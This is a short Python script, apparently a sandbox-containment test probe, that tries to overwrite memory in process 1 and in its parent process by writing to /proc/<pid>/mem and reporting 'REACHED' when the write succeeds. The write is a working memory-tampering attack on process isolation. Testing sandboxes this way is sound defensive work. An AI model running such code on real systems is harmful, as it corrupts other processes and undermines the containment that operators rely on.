# kind: writing
# tries: write into the memory of the sandbox's first process
# where: in a cell behind all others

import os

for pid in {1, os.getppid()}:
    try:
        with open(f'/proc/{pid}/mem', 'r+b') as memory, open(f'/proc/{pid}/maps') as maps:
            memory.seek(int(maps.readline().split('-')[0], 16))
            memory.write(b'SPOILED')
            print('REACHED', pid)
    except OSError:
        pass
